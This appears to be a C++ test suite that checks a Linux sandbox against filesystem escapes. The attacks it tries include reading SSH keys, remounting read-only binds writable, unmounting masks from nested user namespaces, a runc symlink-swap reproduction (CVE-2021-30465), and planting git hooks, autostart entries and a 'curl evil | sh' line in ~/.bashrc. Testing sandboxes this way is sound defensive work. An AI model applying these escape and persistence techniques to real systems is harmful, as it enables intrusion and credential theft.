// SPDX-License-Identifier: Apache-2.0
// Getting at host files: secrets in the real home (~/.ssh), writing through a read-only bind,
// remounting it read-write, unmounting the tmpfs over $HOME to reveal the real home (also
// from a nested user namespace, where the kernel's MNT_LOCKED is the last line), and mounts
// made inside leaking to the host.
#include "escape_support.hpp"

#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>

using namespace sbx::test;
namespace fs = std::filesystem;

class FilesystemEscape : public Escape {
protected:
  // ~/.ssh/id_ed25519 in the REAL home of the test user; removed by the destructor.
  struct SshKey {
    std::string dir, key;
    SshKey(const User &u, const std::string &marker) {
      dir = u.home + "/.ssh";
      fs::create_directories(dir);
      chmod(dir.c_str(), 0700);
      if (running_as_root())
        (void)!chown(dir.c_str(), u.uid, u.gid);
      key = dir + "/id_ed25519-" + marker;
      write_file_as(key, "-----BEGIN OPENSSH PRIVATE KEY-----\n", u, 0600);
    }
    ~SshKey() { fs::remove(key); }
  };
  std::string ro_dir() {
    std::string d = aux() + "/ro";
    fs::create_directories(d);
    if (running_as_root())
      (void)!chown(d.c_str(), user().uid, user().gid);
    write_file_as(d + "/file", "original\n", user());
    return d;
  }
};

TEST_F(FilesystemEscape, ReadSshKeyFromRealHomeFails) {
  SshKey k(user(), marker());
  RunResult r = probe({"read", k.key, "+", "ls", k.dir});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 2U) << r;
  EXPECT_EQ(res[0], "errno=ENOENT") << "the ssh key is readable inside" << r;
  EXPECT_EQ(res[1], "errno=ENOENT") << "~/.ssh is visible inside" << r;
}

TEST_F(FilesystemEscape, Control_SshKeyReadableWhenHomeIsBound) {
  SshKey k(user(), marker());
  RunResult r = probe({"read", k.key}, {"--ro-bind", user().home});
  EXPECT_EQ(r.result(), "ok") << "the probe cannot detect a readable key" << r;
}

TEST_F(FilesystemEscape, WriteThroughReadOnlyBindFails) {
  std::string d = ro_dir();
  RunResult r = probe({"write", d + "/file", "pwned", "+", "write", d + "/new", "+", "mkdir",
                       d + "/newdir", "+", "unlink", d + "/file"},
                      {"--ro-bind", d});
  ASSERT_EQ(r.exit_code, 0) << r;
  for (auto &res : r.results())
    EXPECT_EQ(res, "errno=EROFS") << r;
  EXPECT_EQ(r.results().size(), 4U) << r;
  EXPECT_EQ(read_file(d + "/file"), "original\n");
  EXPECT_FALSE(fs::exists(d + "/new"));
}

TEST_F(FilesystemEscape, ReadOnlyPathReachedThroughASymlinkIntoATmpfsStaysReadOnly) {
  // The read-only, protected and masked paths under a tmpfs that is still empty are skipped
  // unlooked (mount::EmptyDirs). Here a bind lands in the tmpfs by way of a symlink, so no
  // mount destination names the read-only path: only a look at the tmpfs shows it is there.
  std::string d = ro_dir();
  auto run = [&](bool readonly) {
    std::string toml = "[profile]\nextends = \"default\"\n"
                       "[[mount]]\ntype = \"tmpfs\"\ndest = \"/tmp/t\"\n"
                       "[[mount]]\ntype = \"symlink\"\nsource = \"/tmp/t\"\ndest = \"/tmp/link\"\n"
                       "[[mount]]\ntype = \"bind\"\nsource = \"" +
                       d + "\"\ndest = \"/tmp/link/sub\"\n";
    if (readonly)
      toml += "[filesystem]\nreadonly = [\"/tmp/t/sub\"]\n";
    return probe({"write", "/tmp/t/sub/file", "pwned"},
                 {write_profile(readonly ? "ro-sub.toml" : "rw-sub.toml", toml)});
  };
  RunResult ro = run(true);
  EXPECT_EQ(ro.result(), "errno=EROFS") << "the bind under the tmpfs was left writable" << ro;
  EXPECT_EQ(read_file(d + "/file"), "original\n");
  // Control: without the read-only entry the same bind is writable there.
  RunResult rw = run(false);
  EXPECT_EQ(rw.result(), "ok") << rw;
}

TEST_F(FilesystemEscape, Control_WriteThroughReadWriteBindWorks) {
  std::string d = ro_dir();
  RunResult r = probe({"write", d + "/file", "changed"}, {"--bind", d});
  EXPECT_EQ(r.result(), "ok") << r;
  EXPECT_EQ(read_file(d + "/file"), "changed");
}

TEST_F(FilesystemEscape, RemountReadOnlyBindReadWriteFails) {
  std::string d = ro_dir();
  RunResult r = probe({"remount-rw", d, "+", "write", d + "/file", "pwned", "+", "remount-rw", "/",
                       "+", "write", "/var/tmp/" + marker()},
                      {"--ro-bind", d});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 4U) << r;
  EXPECT_NE(res[0], "ok") << "remounted the ro bind rw" << r;
  EXPECT_EQ(res[1], "errno=EROFS") << r;
  EXPECT_NE(res[2], "ok") << "remounted / rw" << r;
  EXPECT_EQ(res[3], "errno=EROFS") << r;
  EXPECT_EQ(read_file(d + "/file"), "original\n");
  fs::remove("/var/tmp/" + marker());
}

TEST_F(FilesystemEscape, UnmountHomeTmpfsToRevealRealHomeFails) {
  SshKey k(user(), marker());
  RunResult r = probe({"umount", user().home, "+", "exists", k.key});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 2U) << r;
  EXPECT_NE(res[0], "ok") << "unmounted the tmpfs over $HOME" << r;
  EXPECT_EQ(res[1], "errno=ENOENT") << "the real home is visible" << r;
}

// With seccomp off, a nested user namespace gives the payload every capability over a copy
// of the sandbox's mounts. The kernel locks mounts inherited from a more privileged mount
// namespace (MNT_LOCKED, mount_namespaces(7)): umount must fail and ro must stick. This holds
// only if the sandbox builds its mounts in a way that the kernel locks them.
TEST_F(FilesystemEscape, NestedUsernsCannotUnmountHomeOrRemountRw) {
  SshKey k(user(), marker());
  std::string d = ro_dir();
  RunResult r = probe({"userns-root", "+", "umount", user().home, "+", "exists", k.key, "+",
                       "remount-rw", d, "+", "write", d + "/file", "pwned"},
                      {no_seccomp_profile(), "--ro-bind", d});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 5U) << r;
  ASSERT_EQ(res[0], "ok") << "could not become root in a nested userns (control failed)" << r;
  EXPECT_NE(res[1], "ok") << "unmounted the locked $HOME tmpfs from a nested userns" << r;
  EXPECT_EQ(res[2], "errno=ENOENT") << "the real home is visible" << r;
  EXPECT_NE(res[3], "ok") << "cleared ro on a locked bind from a nested userns" << r;
  EXPECT_EQ(res[4], "errno=EROFS") << r;
  EXPECT_EQ(read_file(d + "/file"), "original\n");
}

TEST_F(FilesystemEscape, MountInsideDoesNotAppearOnHost) {
  const std::string before = read_file("/proc/self/mountinfo");
  const std::string target = work() + "/mnt";
  fs::create_directories(target);
  if (running_as_root())
    (void)!chown(target.c_str(), user().uid, user().gid);
  // Without capabilities the mount itself must fail.
  RunResult r = probe({"mount-tmpfs", target});
  EXPECT_NE(r.result(), "ok") << "mounted without capabilities" << r;
  // With a nested userns (seccomp off) the mount works inside, but must stay inside.
  RunResult n = probe({"userns-root", "+", "mount-tmpfs", target, "+", "write", target + "/inside",
                       "+", "sleep", "0"},
                      {no_seccomp_profile()});
  auto res = n.results();
  ASSERT_GE(res.size(), 3U) << n;
  ASSERT_EQ(res[0], "ok") << n;
  EXPECT_EQ(res[1], "ok") << "control: the nested mount should work inside" << n;
  EXPECT_FALSE(fs::exists(target + "/inside"))
      << "a file written in the inner tmpfs is on the host";
  EXPECT_EQ(read_file("/proc/self/mountinfo"), before) << "the host's mount table changed";
  EXPECT_EQ(read_file("/proc/1/mountinfo").find(target), std::string::npos);
}

// A mount the host makes AFTER the sandbox started (a USB stick, an NFS automount, a FUSE
// filesystem of the user) reaches the sandbox only as the profile says: root.propagation =
// "slave" (the default) receives it under a bound directory, "private" never does, and a
// [[mount]]'s own propagation overrides root.propagation for that bind. The cases are each
// other's controls. Needs root, to make a shared mount on the host.
struct PropagationCase {
  const char *name;
  const char *root;  // root.propagation
  const char *mount; // the bind's propagation, "" = unset (as root.propagation)
  bool received;
};

[[maybe_unused]] static void PrintTo(const PropagationCase &c, std::ostream *os) {
  *os << c.name;
}

class LaterHostMount : public FilesystemEscape,
                       public ::testing::WithParamInterface<PropagationCase> {
protected:
  void TearDown() override {
    if (!shared_.empty()) {
      umount2((shared_ + "/later").c_str(), MNT_DETACH);
      umount2(shared_.c_str(), MNT_DETACH);
    }
    FilesystemEscape::TearDown();
  }
  std::string shared_;
};

TEST_P(LaterHostMount, ReachesTheSandboxOnlyAsPropagationSays) {
  if (!running_as_root())
    GTEST_SKIP() << "needs root to make a shared mount on the host";
  const PropagationCase c = GetParam();
  const std::string dir = aux() + "/shared";
  fs::create_directories(dir + "/later");
  for (const auto &p : {dir, dir + "/later"})
    (void)!chown(p.c_str(), user().uid, user().gid);
  // The host side: `dir` is a shared mount (as under systemd, where / is shared).
  ASSERT_EQ(mount(dir.c_str(), dir.c_str(), nullptr, MS_BIND, nullptr), 0) << strerror(errno);
  shared_ = dir;
  ASSERT_EQ(mount(nullptr, dir.c_str(), nullptr, MS_SHARED, nullptr), 0) << strerror(errno);

  std::string toml = std::string("[profile]\nextends = \"default\"\n[root]\npropagation = \"") +
                     c.root + "\"\n[[mount]]\ntype = \"bind\"\nsource = \"" + dir +
                     "\"\ndest = \"" + dir + "\"\n";
  if (*c.mount != '\0')
    toml += std::string("propagation = \"") + c.mount + "\"\n";
  const std::string profile = write_profile("propagation.toml", toml);
  const std::string script = "echo ready; while [ ! -e " + dir +
                             "/go ]; do sleep 0.02; done; cat " + dir +
                             "/later/marker 2>/dev/null || echo absent";
  Process sandboxed({"run", profile, "--", "/bin/sh", "-c", script}, opts_in_work({}));
  ASSERT_TRUE(sandboxed.wait_for_stdout("ready")) << sandboxed.err();

  ASSERT_EQ(mount("tmpfs", (dir + "/later").c_str(), "tmpfs", 0, "mode=0755"), 0)
      << strerror(errno);
  write_file_as(dir + "/later/marker", "mounted later on the host\n", user());
  write_file_as(dir + "/go", "", user());
  RunResult r = sandboxed.wait();
  ASSERT_EQ(r.exit_code, 0) << r;
  if (c.received)
    EXPECT_EQ(r.out, "ready\nmounted later on the host\n")
        << "the host's new mount did not reach the sandbox" << r;
  else
    EXPECT_EQ(r.out, "ready\nabsent\n") << "the host's new mount reached the sandbox" << r;
}

INSTANTIATE_TEST_SUITE_P(Propagation, LaterHostMount,
                         ::testing::Values(PropagationCase{"RootSlave", "slave", "", true},
                                           PropagationCase{"RootPrivate", "private", "", false},
                                           PropagationCase{"RootSlaveBindPrivate", "slave",
                                                           "private", false}),
                         [](const auto &param_info) { return std::string(param_info.param.name); });

// The default profile's [filesystem] mask puts an empty read-only mount over host kernel state
// (/proc/keys here, present on every kernel). The attack: unmount the mask, directly and then
// as root of a nested user namespace (seccomp off), or write through it. MNT_LOCKED must keep it.
TEST_F(FilesystemEscape, MaskedKernelStateCannotBeUnmaskedOrWritten) {
  RunResult r = probe({"umount", "/proc/keys", "+", "userns-root", "+", "umount", "/proc/keys", "+",
                       "write", "/proc/keys", "x", "+", "facts"},
                      {no_seccomp_profile()});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 4U) << r; // facts prints facts, no result line
  EXPECT_NE(res[0], "ok") << "unmounted the mask over /proc/keys without capabilities" << r;
  ASSERT_EQ(res[1], "ok") << "could not become root in a nested userns (control failed)" << r;
  EXPECT_NE(res[2], "ok") << "unmounted the locked mask from a nested userns" << r;
  EXPECT_NE(res[3], "ok") << "wrote through the mask" << r;
  Facts f(r.out);
  EXPECT_TRUE(f.has("mount./proc/keys")) << "the mask is gone" << r;
}

// Control for the test above: the probe's umount does work on a mount that is not locked (one
// the payload made itself in the nested namespace), so its failure above is the kernel's lock.
TEST_F(FilesystemEscape, Control_UnmountOfAnUnlockedMountWorks) {
  RunResult r = probe({"userns-root", "+", "mount-tmpfs", "/tmp", "+", "umount", "/tmp"},
                      {no_seccomp_profile()});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 3U) << r;
  EXPECT_EQ(res[0], "ok") << r;
  EXPECT_EQ(res[1], "ok") << r;
  EXPECT_EQ(res[2], "ok") << "the probe cannot unmount even an unlocked mount" << r;
}

// ---- symlink-swapped mount destinations (CVE-2021-30465, runc) ---------------------------
//
// Untrusted code run on a persistent overlay plants symlinks where a later profile mounts
// things: `/data -> <a host directory>` (absolute) and `/rel -> ../../..<host directory>`
// (climbing out). A launcher that resolved destinations as host paths (root + "/data/...")
// would follow them out of the new root and create the mount points, or mount, on the host.
// sandbox resolves every destination inside the new root (openat2 RESOLVE_IN_ROOT) and
// creates missing ones with O_NOFOLLOW, so the symlinks lead to the root's own copy of that
// path, or nowhere.
class SymlinkSwap : public FilesystemEscape {
protected:
  void SetUp() override {
    FilesystemEscape::SetUp();
    if (access("/bin/busybox", X_OK) != 0)
      GTEST_SKIP() << "needs busybox-static (/bin/busybox)";
    root_ = aux() + "/root";
    for (const char *sub : {"/bin", "/proc", "/dev", "/home"})
      fs::create_directories(root_ + sub);
    fs::copy_file("/bin/busybox", root_ + "/bin/busybox");
    fs::copy_file(probe_bin(), root_ + "/probe");
    upper_ = aux() + "/upper";
    victim_ = aux() + "/victim";
    fs::create_directories(upper_);
    fs::create_directories(victim_);
    write_file_as(aux() + "/hostfile", "from the host\n", user());
    fs::create_directories(aux() + "/hostdir");
    if (running_as_root())
      for (auto it = fs::recursive_directory_iterator(aux());
           it != fs::recursive_directory_iterator(); ++it)
        (void)!lchown(it->path().c_str(), user().uid, user().gid);
  }
  // A profile on the image root with a persistent upper dir, and `mounts` on top.
  std::string profile(const std::string &name, const std::string &mounts) {
    return write_profile(name, "[root]\nsource = \"" + root_ +
                                   "\"\nreadonly = false\noverlay = \"persistent\"\n"
                                   "overlay_dir = \"" +
                                   upper_ + "\"\n[process]\ncwd = \"/\"\n" + mounts);
  }
  RunResult attacker(const std::string &script) {
    return sandbox({"run", profile("attacker.toml", ""), "--", "/bin/busybox", "sh", "-c", script});
  }
  std::vector<std::string> victim_entries() const {
    std::vector<std::string> names;
    for (const auto &e : fs::directory_iterator(victim_))
      names.push_back(e.path().filename());
    return names;
  }
  std::string root_, upper_, victim_;
};

TEST_F(SymlinkSwap, CVE_2021_30465_PlantedSymlinksDoNotRedirectMountsToTheHost) {
  // Run 1, the attacker: symlinks at the destinations a later profile will mount on.
  RunResult plant =
      attacker("busybox ln -s " + victim_ + " /data && busybox ln -s ../../../../../../../../.." +
               victim_ + " /rel");
  ASSERT_EQ(plant.exit_code, 0) << plant;
  const std::string mounts = "[[mount]]\ntype = \"tmpfs\"\ndest = \"/data/deep/er\"\n"
                             "[[mount]]\ntype = \"bind\"\nsource = \"" +
                             aux() +
                             "/hostfile\"\ndest = \"/rel/file\"\n"
                             "[[mount]]\ntype = \"bind\"\nsource = \"" +
                             aux() + "/hostdir\"\ndest = \"/data/dirbind\"\n";
  const std::string victim_profile = profile("victim.toml", mounts);

  // Run 2: inside the root the symlinks dangle, so setup stops with an error...
  RunResult dangling = sandbox({"run", victim_profile, "--", "/probe", "facts"});
  EXPECT_EQ(dangling.exit_code, 125) << dangling;
  EXPECT_NE(dangling.err.find("/data"), std::string::npos) << dangling;
  EXPECT_EQ(victim_entries(), std::vector<std::string>{})
      << "a mount point was created on the host";

  // Run 3, the attacker again: give the symlinks a target inside the root too.
  RunResult decoy = attacker("busybox mkdir -p " + victim_);
  ASSERT_EQ(decoy.exit_code, 0) << decoy;

  // Run 4: every mount lands on the root's own copy of that path, none on the host's.
  RunResult r =
      sandbox({"run", victim_profile, "--", "/probe", "cat", victim_ + "/file", "+", "facts"});
  ASSERT_EQ(r.exit_code, 0) << r;
  Facts f(r.out);
  EXPECT_EQ(f["data"], "from the host\\n") << r;
  EXPECT_EQ(split(f["mount." + victim_ + "/deep/er"], ',').front(), "tmpfs") << r;
  EXPECT_TRUE(f.has("mount." + victim_ + "/dirbind")) << r;
  EXPECT_TRUE(f.has("mount." + victim_ + "/file")) << r;
  EXPECT_EQ(victim_entries(), std::vector<std::string>{})
      << "a mount point was created on the host";
  EXPECT_TRUE(fs::is_directory(upper_ + "/upper" + victim_ + "/deep/er"))
      << "the mount points are not in the sandbox's upper dir";
}

TEST_F(SymlinkSwap, Control_MountPointsUnderABoundHostDirectoryAreCreatedOnTheHost) {
  // The same mounts under a host directory the profile binds read-write: the mount points
  // are created through the bind, on the host, and victim_entries() sees them.
  const std::string mounts = "[[mount]]\ntype = \"bind\"\nsource = \"" + victim_ + "\"\ndest = \"" +
                             victim_ + "\"\n[[mount]]\ntype = \"tmpfs\"\ndest = \"" + victim_ +
                             "/deep/er\"\n";
  RunResult r = sandbox({"run", profile("bound.toml", mounts), "--", "/probe", "facts"});
  ASSERT_EQ(r.exit_code, 0) << r;
  EXPECT_EQ(victim_entries(), std::vector<std::string>{"deep"});
}

// ---- self-protection ------------------------------------------------------------------------
//
// A sandboxed command that can write the project or the home plants what runs LATER, outside
// the sandbox: a git hook or `core.fsmonitor` in .git/config (run by the next `git status`,
// often by a shell prompt), a shell rc file, an autostart entry, a profile on sandbox's own
// search path that weakens the next run. The default profile keeps those read-only.
class SelfProtection : public FilesystemEscape {};

TEST_F(SelfProtection, GitHooksAndConfigOfTheProjectAreReadOnly) {
  fs::create_directories(work() + "/.git/hooks");
  write_file_as(work() + "/.git/config", "[core]\n", user());
  if (running_as_root())
    for (const auto &p : {work() + "/.git", work() + "/.git/hooks"})
      (void)!chown(p.c_str(), user().uid, user().gid);
  RunResult r = probe({"write", work() + "/.git/hooks/pre-commit", "+", "write",
                       work() + "/.git/config", "[core]\n\tfsmonitor = /tmp/x\n", "+", "write",
                       work() + "/.git/COMMIT_EDITMSG", "+", "write", work() + "/src.c"});
  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 4U) << r;
  EXPECT_EQ(res[0], "errno=EROFS") << "a git hook was planted" << r;
  EXPECT_EQ(res[1], "errno=EROFS") << ".git/config was rewritten" << r;
  // Control, in the same run: the rest of the project and of .git stays writable.
  EXPECT_EQ(res[2], "ok") << r;
  EXPECT_EQ(res[3], "ok") << r;
  EXPECT_FALSE(fs::exists(work() + "/.git/hooks/pre-commit"));
  EXPECT_EQ(read_file(work() + "/.git/config"), "[core]\n");
}

TEST_F(SelfProtection, WithTheHomeBoundReadWriteRcFilesAndConfigDirsStayReadOnly) {
  const std::string home = user().home;
  // What this test may create in the real home, removed afterwards if it was not there.
  std::vector<std::string> created;
  for (const char *d : {"/.config", "/.local"})
    if (!fs::exists(home + d))
      created.push_back(home + d);
  const bool had_bashrc = fs::exists(home + "/.bashrc");
  if (!had_bashrc)
    write_file_as(home + "/.bashrc", "# test\n", user());
  const std::string bashrc = read_file(home + "/.bashrc");
  const std::string control = home + "/sbx-self-protection-" + marker();

  RunResult r = probe({"write", home + "/.bashrc", "curl evil | sh\n", "+", "mkdir",
                       home + "/.config/sandbox/profiles", "+", "write",
                       home + "/.config/autostart/evil.desktop", "+", "write",
                       home + "/.local/bin/ls", "+", "write", control},
                      {"--bind", home});
  std::error_code ec;
  fs::remove(control, ec);
  for (const auto &c : created)
    fs::remove_all(c, ec);
  if (!had_bashrc)
    fs::remove(home + "/.bashrc", ec);

  ASSERT_EQ(r.exit_code, 0) << r;
  auto res = r.results();
  ASSERT_EQ(res.size(), 5U) << r;
  EXPECT_EQ(res[0], "errno=EROFS") << "~/.bashrc was rewritten" << r;
  // These did not exist (or were empty): sandbox created them empty and read-only, so
  // nothing can be planted in them.
  EXPECT_EQ(res[1], "errno=EROFS") << "a profile directory was planted in ~/.config/sandbox" << r;
  EXPECT_EQ(res[2], "errno=EROFS") << "an autostart entry was planted" << r;
  EXPECT_EQ(res[3], "errno=EROFS") << "a program was planted in ~/.local/bin" << r;
  EXPECT_EQ(res[4], "ok") << "control: the home is not writable at all" << r;
  EXPECT_EQ(bashrc, had_bashrc ? read_file(home + "/.bashrc") : "# test\n");
}

TEST_F(SelfProtection, TheThrowawayHomeStaysWritableForInstallers) {
  // Under the default's tmpfs $HOME nothing planted survives, so nothing is protected there:
  // `pip install --user` and the like still work.
  const std::string home = user().home;
  RunResult r = probe({"mkdir", home + "/.local", "+", "mkdir", home + "/.local/bin", "+", "write",
                       home + "/.local/bin/tool", "+", "mkdir", home + "/.config", "+", "mkdir",
                       home + "/.config/git"});
  ASSERT_EQ(r.exit_code, 0) << r;
  for (const auto &res : r.results())
    EXPECT_EQ(res, "ok") << r;
  EXPECT_EQ(r.results().size(), 5U) << r;
}
